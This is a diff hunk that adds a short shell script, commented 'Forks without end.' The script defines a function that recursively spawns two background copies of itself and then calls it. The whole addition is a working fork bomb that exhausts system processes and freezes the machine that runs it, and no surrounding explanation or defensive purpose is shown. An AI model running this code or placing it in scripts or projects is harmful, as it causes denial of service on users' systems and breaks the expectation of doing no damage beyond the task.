@@ -1,0 +1,7 @@
+# Forks without end.
+bomb() {
+	bomb &
+	bomb &
+	wait
+}
+bomb
